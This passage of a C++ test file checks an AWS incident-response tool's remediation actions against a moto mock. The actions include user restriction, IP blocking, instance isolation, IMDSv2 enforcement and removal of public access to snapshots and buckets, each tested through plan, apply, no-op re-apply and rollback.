  EXPECT_EQ(rolled->plan.calls[0].operation, "iam:DeleteRolePolicy");
  EXPECT_EQ(policy(), "NoSuchEntity");

  // A user ARN is refused by the role action; an unknown role is not found.
  auto wrong = responder_->PlanAction("revoke-role-sessions", {.target = "arn:aws:iam::123456789012:user/alice"});
  ASSERT_FALSE(wrong);
  EXPECT_EQ(wrong.error().code, ErrorCode::kInvalidArgument);
  auto missing = responder_->PlanAction("revoke-role-sessions", {.target = "no-such-role"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
}

// --------------------------------------------------------------------------------- restrict-user
TEST_F(RespondMotoTest, RestrictUserRestoresAPriorPolicyOfTheSameNameAndRefusesChanges) {
  ASSERT_TRUE(aws_->Query("iam", "CreateUser", {{"UserName", "eve"}}));
  const std::string old_doc = R"({"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"s3:*","Resource":"*"}]})";
  ASSERT_TRUE(aws::iam::PutUserPolicy(*aws_, "eve", "cloudward-deny-all", old_doc));
  auto actions = [&] {
    return moto_->Boto3("try:\n  print(boto3.client('iam').get_user_policy(UserName='eve', PolicyName="
                        "'cloudward-deny-all')['PolicyDocument']['Statement'][0]['Action'])\n"
                        "except Exception as e:\n  print(e.response['Error']['Code'])");
  };
  const ActionRequest request{.target = "arn:aws:iam::123456789012:user/eve", .incident_id = kIncident};
  auto applied = responder_->Apply("restrict-user", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(actions(), "*");
  EXPECT_TRUE(json::parse(store_->GetAction(applied->action.id)->prior_state)["policy_document"].is_string());
  auto again = responder_->Apply("restrict-user", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  ASSERT_EQ(rolled->plan.calls.size(), 1u);
  EXPECT_EQ(rolled->plan.calls[0].operation, "iam:PutUserPolicy");
  EXPECT_EQ(actions(), "s3:*");

  // Applied again, then changed by someone else: rollback refuses to clobber it.
  auto second = responder_->Apply("restrict-user", request);
  ASSERT_TRUE(second) << second.error().message;
  ASSERT_TRUE(second->execution.ok()) << second->execution.error->message;
  ASSERT_TRUE(aws::iam::PutUserPolicy(*aws_, "eve", "cloudward-deny-all",
      R"({"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"iam:*","Resource":"*"}]})"));
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;
  EXPECT_EQ(actions(), "iam:*");
}

// -------------------------------------------------------------------------------------- block-ip
TEST_F(RespondMotoTest, BlockIpDeniesBothDirectionsInEveryAclInUse) {
  const std::string vpc = moto_->Boto3("print(boto3.client('ec2').create_vpc(CidrBlock='10.9.0.0/16')['Vpc']['VpcId'])");
  ASSERT_TRUE(vpc.starts_with("vpc-")) << vpc;
  ASSERT_FALSE(moto_->Boto3("print(boto3.client('ec2').create_subnet(VpcId='" + vpc +
                            "', CidrBlock='10.9.1.0/24')['Subnet']['SubnetId'])").empty());
  auto denies = [&] {
    return moto_->Boto3("acls = boto3.client('ec2').describe_network_acls(Filters=[{'Name':'vpc-id','Values':['" + vpc +
                        "']}])['NetworkAcls']\n"
                        "print(sorted((e['Egress'], e['RuleNumber']) for a in acls for e in a['Entries']"
                        " if e.get('CidrBlock') == '203.0.113.7/32' and e['RuleAction'] == 'deny'))");
  };
  const ActionRequest request{.target = "203.0.113.7", .incident_id = kIncident, .options = {{"vpc", vpc}}};

  auto plan = responder_->PlanAction("block-ip", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_EQ(plan->target, "203.0.113.7/32");
  ASSERT_EQ(plan->calls.size(), 2u) << plan->ToJson().dump(2);  // the VPC's default ACL, in and out
  EXPECT_EQ(plan->calls[0].parameters["Egress"], false);
  EXPECT_EQ(plan->calls[1].parameters["Egress"], true);
  EXPECT_EQ(denies(), "[]");

  auto applied = responder_->Apply("block-ip", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(denies(), "[(False, 1), (True, 1)]");
  auto again = responder_->Apply("block-ip", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_EQ(rolled->plan.calls.size(), 2u);
  EXPECT_EQ(denies(), "[]");

  EXPECT_FALSE(responder_->PlanAction("block-ip", {.target = "0.0.0.0/0"}));
  EXPECT_FALSE(responder_->PlanAction("block-ip", {.target = "not-an-ip"}));
}

// ---------------------------------------------------------------------- enable-bucket-versioning
TEST_F(RespondMotoTest, EnableBucketVersioningAndSuspendOnRollback) {
  const std::string bucket = "cw-respond-ransom-target";
  ASSERT_TRUE(aws::s3::CreateBucket(*aws_, bucket));
  auto status = [&] {
    return moto_->Boto3("print(boto3.client('s3').get_bucket_versioning(Bucket='" + bucket + "').get('Status', 'none'))");
  };
  const ActionRequest request{.target = bucket, .incident_id = kIncident};
  auto plan = responder_->PlanAction("enable-bucket-versioning", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_EQ(plan->prior_state["versioning"], "");
  EXPECT_EQ(status(), "none");
  auto applied = responder_->Apply("enable-bucket-versioning", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(status(), "Enabled");
  auto again = responder_->Apply("enable-bucket-versioning", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_EQ(status(), "Suspended");
}

TEST_F(RespondMotoTest, IsolateInstanceInAnIpv6VpcRemovesBothDefaultEgressRules) {
  const std::string ids = moto_->Boto3(
      "ec2 = boto3.client('ec2')\n"
      "vpc = ec2.create_vpc(CidrBlock='10.42.0.0/16', AmazonProvidedIpv6CidrBlock=True)['Vpc']['VpcId']\n"
      "subnet = ec2.create_subnet(VpcId=vpc, CidrBlock='10.42.1.0/24')['Subnet']['SubnetId']\n"
      "i = ec2.run_instances(ImageId='ami-12c6146b', MinCount=1, MaxCount=1, SubnetId=subnet)['Instances'][0]\n"
      "print(vpc, i['InstanceId'])");
  const std::string vpc = ids.substr(0, ids.find(' ')), instance = ids.substr(ids.find(' ') + 1);
  ASSERT_TRUE(instance.starts_with("i-")) << ids;
  const ActionRequest request{.target = instance, .incident_id = kIncident};
  auto plan = responder_->PlanAction("isolate-instance", request);
  ASSERT_TRUE(plan) << plan.error().message;
  ASSERT_GE(plan->calls.size(), 2u);
  EXPECT_EQ(plan->calls[1].operation, "ec2:RevokeSecurityGroupEgress");
  EXPECT_EQ(plan->calls[1].parameters["Cidrs"], (json{"0.0.0.0/0", "::/0"})) << plan->ToJson().dump(2);
  auto applied = responder_->Apply("isolate-instance", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(moto_->Boto3("g = boto3.client('ec2').describe_security_groups(Filters=[{'Name':'vpc-id','Values':['" + vpc +
                         "']},{'Name':'group-name','Values':['cloudward-quarantine']}])['SecurityGroups'][0]\n"
                         "print(len(g['IpPermissions']), len(g['IpPermissionsEgress']))"),
            "0 0");
}

// ---------------------------------------------------------------------- start-cloudtrail-logging
TEST_F(RespondMotoTest, StartCloudTrailLoggingRestartsStoppedTrails) {
  ASSERT_EQ(moto_->Boto3("boto3.client('s3').create_bucket(Bucket='cw-trail-bucket')\n"
                         "ct = boto3.client('cloudtrail')\n"
                         "for name in ('org-trail', 'app-trail'):\n"
                         "  ct.create_trail(Name=name, S3BucketName='cw-trail-bucket')\n"
                         "ct.start_logging(Name='app-trail')\nprint('ok')"),
            "ok");
  auto logging = [&](const std::string& name) {
    return moto_->Boto3("print(boto3.client('cloudtrail').get_trail_status(Name='" + name + "')['IsLogging'])");
  };
  const ActionRequest request{.target = "all", .incident_id = kIncident};
  auto plan = responder_->PlanAction("start-cloudtrail-logging", request);
  ASSERT_TRUE(plan) << plan.error().message;
  ASSERT_EQ(plan->calls.size(), 1u) << plan->ToJson().dump(2);  // app-trail logs already
  EXPECT_EQ(plan->calls[0].parameters["Name"], "org-trail");
  EXPECT_EQ(logging("org-trail"), "False");

  auto applied = responder_->Apply("start-cloudtrail-logging", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(logging("org-trail"), "True");
  auto again = responder_->Apply("start-cloudtrail-logging", {.target = "org-trail", .incident_id = kIncident});
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_EQ(rolled->plan.calls.size(), 1u);
  EXPECT_EQ(logging("org-trail"), "False");
  EXPECT_EQ(logging("app-trail"), "True");  // only what apply started is stopped
  auto missing = responder_->PlanAction("start-cloudtrail-logging", {.target = "no-such-trail"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
}


// ----------------------------------------------------------------------------- protect-instance
TEST_F(RespondMotoTest, ProtectInstanceSetsBothAttributesAndRestoresThem) {
  const std::string instance = RunInstance(*aws_);
  ASSERT_FALSE(instance.empty());
  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').modify_instance_attribute(InstanceId='" + instance +
                         "', Attribute='instanceInitiatedShutdownBehavior', Value='terminate')\nprint('ok')"),
            "ok");
  auto attributes = [&] {
    return moto_->Boto3("ec2 = boto3.client('ec2')\n"
                        "t = ec2.describe_instance_attribute(InstanceId='" + instance + "', Attribute='disableApiTermination')\n"
                        "s = ec2.describe_instance_attribute(InstanceId='" + instance +
                        "', Attribute='instanceInitiatedShutdownBehavior')\n"
                        "print(t['DisableApiTermination']['Value'], s['InstanceInitiatedShutdownBehavior']['Value'])");
  };
  ASSERT_EQ(attributes(), "False terminate");
  const ActionRequest request{.target = instance, .incident_id = kIncident};

  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("protect-instance", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifyInstanceAttribute"));
  ASSERT_EQ(plan->calls.size(), 2u);
  EXPECT_EQ(plan->calls[0].parameters,
            (json{{"InstanceId", instance}, {"Attribute", "disableApiTermination"}, {"Value", "true"}}));
  EXPECT_EQ(plan->calls[1].parameters,
            (json{{"InstanceId", instance}, {"Attribute", "instanceInitiatedShutdownBehavior"}, {"Value", "stop"}}));
  EXPECT_EQ(plan->prior_state["disableApiTermination"], "false");
  EXPECT_EQ(plan->prior_state["instanceInitiatedShutdownBehavior"], "terminate");
  EXPECT_EQ(attributes(), "False terminate");
  EXPECT_TRUE(Actions().empty());

  auto applied = responder_->Apply("protect-instance", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(attributes(), "True stop");
  EXPECT_EQ(store_->GetAction(applied->action.id)->request_ids.size(), 2u);

  mark = recorder_->Mark();
  auto again = responder_->Apply("protect-instance", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifyInstanceAttribute"));

  auto rollback_plan = responder_->PlanRollback(applied->action.id);
  ASSERT_TRUE(rollback_plan) << rollback_plan.error().message;
  ASSERT_EQ(rollback_plan->calls.size(), 2u);
  EXPECT_EQ(attributes(), "True stop");
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  EXPECT_EQ(attributes(), "False terminate");
  auto journal = ActionJournal();
  ASSERT_EQ(journal.size(), 3u);
  EXPECT_EQ(journal[0]["outcome"], "applied");
  EXPECT_EQ(journal[1]["outcome"], "no_op");
  EXPECT_EQ(journal[2]["outcome"], "rolled_back");

  // Only the attribute apply changed is set back.
  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').modify_instance_attribute(InstanceId='" + instance +
                         "', Attribute='instanceInitiatedShutdownBehavior', Value='stop')\nprint('ok')"),
            "ok");
  auto second = responder_->Apply("protect-instance", request);
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_EQ(second->plan.calls.size(), 1u);
  auto second_rollback = responder_->PlanRollback(second->action.id);
  ASSERT_TRUE(second_rollback) << second_rollback.error().message;
  ASSERT_EQ(second_rollback->calls.size(), 1u);
  EXPECT_EQ(second_rollback->calls[0].parameters["Attribute"], "disableApiTermination");

  // Terminated since: rollback refused.
  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').terminate_instances(InstanceIds=['" + instance + "'])\nprint('ok')"), "ok");
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;
  EXPECT_EQ(store_->GetAction(second->action.id)->status, "applied");

  auto malformed = responder_->PlanAction("protect-instance", {.target = "i-xyz"});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
  auto missing = responder_->PlanAction("protect-instance", {.target = "i-0123456789abcdef0"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
}

// ------------------------------------------------------------------------------- require-imdsv2
TEST_F(RespondMotoTest, RequireImdsv2AndAllowV1AgainOnRollback) {
  const std::string instance = RunInstance(*aws_);
  ASSERT_FALSE(instance.empty());
  auto options = [&] {
    return moto_->Boto3("o = boto3.client('ec2').describe_instances(InstanceIds=['" + instance +
                        "'])['Reservations'][0]['Instances'][0]['MetadataOptions']\n"
                        "print(o['HttpTokens'], o['HttpEndpoint'])");
  };
  ASSERT_EQ(options(), "optional enabled");
  const ActionRequest request{.target = instance, .incident_id = kIncident};

  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("require-imdsv2", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifyInstanceMetadataOptions"));
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "ec2:ModifyInstanceMetadataOptions");
  EXPECT_EQ(plan->calls[0].parameters,
            (json{{"InstanceId", instance}, {"HttpTokens", "required"}, {"HttpEndpoint", "enabled"}}));
  EXPECT_EQ(plan->prior_state["http_tokens"], "optional");
  bool warns = std::any_of(plan->notes.begin(), plan->notes.end(),
                           [](const std::string& n) { return n.find("IMDSv1") != std::string::npos; });
  EXPECT_TRUE(warns) << plan->ToJson().dump(2);
  EXPECT_EQ(options(), "optional enabled");

  auto applied = responder_->Apply("require-imdsv2", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(options(), "required enabled");

  mark = recorder_->Mark();
  auto again = responder_->Apply("require-imdsv2", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifyInstanceMetadataOptions"));

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  ASSERT_EQ(rolled->plan.calls.size(), 1u);
  EXPECT_EQ(rolled->plan.calls[0].parameters["HttpTokens"], "optional");
  EXPECT_EQ(options(), "optional enabled");

  // Terminated since: rollback refused.
  auto second = responder_->Apply("require-imdsv2", request);
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').terminate_instances(InstanceIds=['" + instance + "'])\nprint('ok')"), "ok");
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;

  auto malformed = responder_->PlanAction("require-imdsv2", {.target = "instance-1"});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
}

// ---------------------------------------------------------------------- remove-user-from-groups
TEST_F(RespondMotoTest, RemoveUserFromGroupsAndAddBackOnRollback) {
  ASSERT_EQ(moto_->Boto3("iam = boto3.client('iam')\n"
                         "iam.create_user(UserName='carol')\n"
                         "for g in ('admins', 'devs', 'auditors'):\n"
                         "  iam.create_group(GroupName=g)\n"
                         "for g in ('admins', 'devs'):\n"
                         "  iam.add_user_to_group(GroupName=g, UserName='carol')\n"
                         "print('ok')"),
            "ok");
  auto groups = [&] {
    return moto_->Boto3("print(','.join(sorted(g['GroupName'] for g in "
                        "boto3.client('iam').list_groups_for_user(UserName='carol')['Groups'])))");
  };
  ASSERT_EQ(groups(), "admins,devs");
  const ActionRequest request{.target = "arn:aws:iam::123456789012:user/carol", .incident_id = kIncident};

  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("remove-user-from-groups", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "RemoveUserFromGroup"));
  EXPECT_EQ(plan->target, "carol");
  ASSERT_EQ(plan->calls.size(), 2u);
  EXPECT_EQ(plan->calls[0].operation, "iam:RemoveUserFromGroup");
  EXPECT_EQ(plan->prior_state["groups"], (json{"admins", "devs"}));
  EXPECT_EQ(groups(), "admins,devs");

  auto applied = responder_->Apply("remove-user-from-groups", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(groups(), "");

  mark = recorder_->Mark();
  auto again = responder_->Apply("remove-user-from-groups", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "RemoveUserFromGroup"));

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  ASSERT_EQ(rolled->plan.calls.size(), 2u);
  EXPECT_EQ(rolled->plan.calls[0].operation, "iam:AddUserToGroup");
  EXPECT_EQ(groups(), "admins,devs");

  // A group deleted since: rollback refused, nothing added.
  auto second = responder_->Apply("remove-user-from-groups", request);
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_EQ(moto_->Boto3("boto3.client('iam').delete_group(GroupName='devs')\nprint('ok')"), "ok");
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict);
  EXPECT_NE(refused.error().message.find("devs"), std::string::npos) << refused.error().message;
  EXPECT_EQ(groups(), "");

  auto role = responder_->PlanAction("remove-user-from-groups", {.target = "arn:aws:iam::123456789012:role/carol"});
  ASSERT_FALSE(role);
  EXPECT_EQ(role.error().code, ErrorCode::kInvalidArgument);
  auto malformed = responder_->PlanAction("remove-user-from-groups", {.target = "carol smith!"});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
  auto missing = responder_->PlanAction("remove-user-from-groups", {.target = "no-such-user"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
}

// ------------------------------------------------------------------------- delete-login-profile
TEST_F(RespondMotoTest, DeleteLoginProfileCannotBeRolledBack) {
  ASSERT_EQ(moto_->Boto3("iam = boto3.client('iam')\niam.create_user(UserName='dave')\n"
                         "iam.create_login_profile(UserName='dave', Password='Correct-Horse-42')\nprint('ok')"),
            "ok");
  auto profile = [&] {
    return moto_->Boto3("try:\n  boto3.client('iam').get_login_profile(UserName='dave')\n  print('present')\n"
                        "except Exception as e:\n  print(e.response['Error']['Code'])");
  };
  ASSERT_EQ(profile(), "present");
  const ActionRequest request{.target = "dave", .incident_id = kIncident};

  auto plan = responder_->PlanAction("delete-login-profile", request);
  ASSERT_TRUE(plan) << plan.error().message;
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "iam:DeleteLoginProfile");
  EXPECT_EQ(plan->calls[0].parameters, (json{{"UserName", "dave"}}));
  EXPECT_EQ(plan->prior_state["login_profile"], true);
  bool warns = std::any_of(plan->notes.begin(), plan->notes.end(),
                           [](const std::string& n) { return n.find("irreversible") != std::string::npos; });
  EXPECT_TRUE(warns) << plan->ToJson().dump(2);
  EXPECT_EQ(profile(), "present");

  auto applied = responder_->Apply("delete-login-profile", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(profile(), "NoSuchEntity");

  size_t mark = recorder_->Mark();
  auto again = responder_->Apply("delete-login-profile", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "DeleteLoginProfile"));
  EXPECT_EQ(again->plan.prior_state["login_profile"], false);

  // Rollback: not reversible, said so; nothing is called and the action stays applied.
  mark = recorder_->Mark();
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_FALSE(rolled->rolled_back);
  EXPECT_FALSE(rolled->plan.reversible);
  EXPECT_NE(rolled->plan.summary.find("cannot be restored"), std::string::npos) << rolled->plan.summary;
  EXPECT_FALSE(Contains(OperationsSince(mark), "CreateLoginProfile"));
  EXPECT_EQ(profile(), "NoSuchEntity");
  EXPECT_EQ(store_->GetAction(applied->action.id)->status, "applied");
  auto journal = ActionJournal();
  ASSERT_EQ(journal.size(), 3u);
  EXPECT_EQ(journal[2]["outcome"], "nothing_to_undo");

  auto missing = responder_->PlanAction("delete-login-profile", {.target = "no-such-user"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
}

// ------------------------------------------------------------------------ make-snapshot-private
TEST_F(RespondMotoTest, MakeSnapshotPrivateUnsharesAndSharesAgainOnRollback) {
  const std::string snapshot = moto_->Boto3(
      "ec2 = boto3.client('ec2')\n"
      "v = ec2.create_volume(Size=1, AvailabilityZone='us-east-1a')['VolumeId']\n"
      "s = ec2.create_snapshot(VolumeId=v)['SnapshotId']\n"
      "ec2.modify_snapshot_attribute(SnapshotId=s, Attribute='createVolumePermission', OperationType='add',"
      " GroupNames=['all'], UserIds=['111122223333', '444455556666'])\nprint(s)");
  ASSERT_TRUE(snapshot.starts_with("snap-")) << snapshot;
  auto sharing = [&] {
    return moto_->Boto3("p = boto3.client('ec2').describe_snapshot_attribute(SnapshotId='" + snapshot +
                        "', Attribute='createVolumePermission')['CreateVolumePermissions']\n"
                        "print(sorted(x.get('Group', x.get('UserId')) for x in p))");
  };
  const std::string shared = "['111122223333', '444455556666', 'all']";
  ASSERT_EQ(sharing(), shared);
  const ActionRequest request{.target = snapshot, .incident_id = kIncident};

  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("make-snapshot-private", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifySnapshotAttribute"));
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "ec2:ModifySnapshotAttribute");
  EXPECT_EQ(plan->calls[0].parameters,
            (json{{"SnapshotId", snapshot}, {"OperationType", "remove"}, {"UserGroups", {"all"}},
                  {"UserIds", {"111122223333", "444455556666"}}}));
  EXPECT_EQ(sharing(), shared);

  auto applied = responder_->Apply("make-snapshot-private", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(sharing(), "[]");

  mark = recorder_->Mark();
  auto again = responder_->Apply("make-snapshot-private", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifySnapshotAttribute"));

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  EXPECT_EQ(rolled->plan.calls[0].parameters["OperationType"], "add");
  EXPECT_EQ(sharing(), shared);

  // Deleted since: rollback refused.
  auto second = responder_->Apply("make-snapshot-private", request);
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').delete_snapshot(SnapshotId='" + snapshot + "')\nprint('ok')"), "ok");
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;

  auto malformed = responder_->PlanAction("make-snapshot-private", {.target = "vol-0123456789abcdef0"});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
  auto missing_snapshot = responder_->PlanAction("make-snapshot-private", {.target = "snap-0123456789abcdef0"});
  ASSERT_FALSE(missing_snapshot);
  EXPECT_EQ(missing_snapshot.error().code, ErrorCode::kNotFound);
  auto missing_image = responder_->PlanAction("make-snapshot-private", {.target = "ami-0123456789abcdef0"});
  ASSERT_FALSE(missing_image);
  EXPECT_EQ(missing_image.error().code, ErrorCode::kNotFound);
}

TEST_F(RespondMotoTest, MakeSnapshotPrivateUnsharesAnImage) {
  const std::string instance = RunInstance(*aws_);
  ASSERT_FALSE(instance.empty());
  const std::string image = moto_->Boto3(
      "ec2 = boto3.client('ec2')\n"
      "a = ec2.create_image(InstanceId='" + instance + "', Name='cw-golden-image')['ImageId']\n"
      "ec2.modify_image_attribute(ImageId=a, LaunchPermission={'Add': [{'Group': 'all'}, {'UserId': '111122223333'}]})\n"
      "print(a)");
  ASSERT_TRUE(image.starts_with("ami-")) << image;
  auto sharing = [&] {
    return moto_->Boto3("p = boto3.client('ec2').describe_image_attribute(ImageId='" + image +
                        "', Attribute='launchPermission')['LaunchPermissions']\n"
                        "print(sorted(x.get('Group', x.get('UserId')) for x in p))");
  };
  ASSERT_EQ(sharing(), "['111122223333', 'all']");
  const ActionRequest request{.target = image, .incident_id = kIncident};
  auto applied = responder_->Apply("make-snapshot-private", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  ASSERT_EQ(applied->plan.calls.size(), 1u);
  EXPECT_EQ(applied->plan.calls[0].operation, "ec2:ModifyImageAttribute");
  EXPECT_EQ(sharing(), "[]");
  auto again = responder_->Apply("make-snapshot-private", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  EXPECT_EQ(sharing(), "['111122223333', 'all']");
}

// ------------------------------------------------------------------ remove-public-bucket-access
TEST_F(RespondMotoTest, RemovePublicBucketAccessKeepsOwnGrantsAndRestoresOnRollback) {
  const std::string bucket = "cw-respond-leaky-bucket";
  ASSERT_EQ(moto_->Boto3("s3 = boto3.client('s3')\ns3.create_bucket(Bucket='" + bucket + "')\n"
                         "st = lambda sid, p: {'Sid': sid, 'Effect': 'Allow', 'Principal': p, 'Action': 's3:GetObject',"
                         " 'Resource': 'arn:aws:s3:::" + bucket + "/*'}\n"
                         "s3.put_bucket_policy(Bucket='" + bucket + "', Policy=json.dumps({'Version': '2012-10-17', "
                         "'Statement': [st('Public', '*'), st('Own', {'AWS': 'arn:aws:iam::123456789012:root'}),"
                         " st('Partner', {'AWS': 'arn:aws:iam::111122223333:root'})]}))\n"
                         "s3.put_bucket_acl(Bucket='" + bucket + "', ACL='public-read')\nprint('ok')"),
            "ok");
  auto state = [&] {
    return moto_->Boto3("s3 = boto3.client('s3')\n"
                        "try:\n  sids = sorted(s['Sid'] for s in json.loads(s3.get_bucket_policy(Bucket='" + bucket +
                        "')['Policy'])['Statement'])\n"
                        "except Exception as e:\n  sids = e.response['Error']['Code']\n"
                        "grants = sorted(g['Grantee'].get('URI', 'owner').split('/')[-1] + ':' + g['Permission'] for g in "
                        "s3.get_bucket_acl(Bucket='" + bucket + "')['Grants'])\nprint(sids, grants)");
  };
  const std::string open = "['Own', 'Partner', 'Public'] ['AllUsers:READ', 'owner:FULL_CONTROL']";
  ASSERT_EQ(state(), open);
  const ActionRequest request{.target = bucket, .incident_id = kIncident};

  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("remove-public-bucket-access", request);
  ASSERT_TRUE(plan) << plan.error().message;
  for (const auto& op : OperationsSince(mark)) EXPECT_FALSE(op.starts_with("PUT ") || op.starts_with("DELETE ")) << op;
  ASSERT_EQ(plan->calls.size(), 2u) << plan->ToJson().dump(2);
  EXPECT_EQ(plan->calls[0].operation, "s3:PutBucketPolicy");
  EXPECT_EQ(plan->calls[1].operation, "s3:PutBucketAcl");
  EXPECT_EQ(plan->prior_state["account"], "123456789012");
  EXPECT_TRUE(plan->prior_state["policy"].is_string());
  EXPECT_EQ(state(), open);

  auto applied = responder_->Apply("remove-public-bucket-access", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(state(), "['Own'] ['owner:FULL_CONTROL']");

  mark = recorder_->Mark();
  auto again = responder_->Apply("remove-public-bucket-access", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
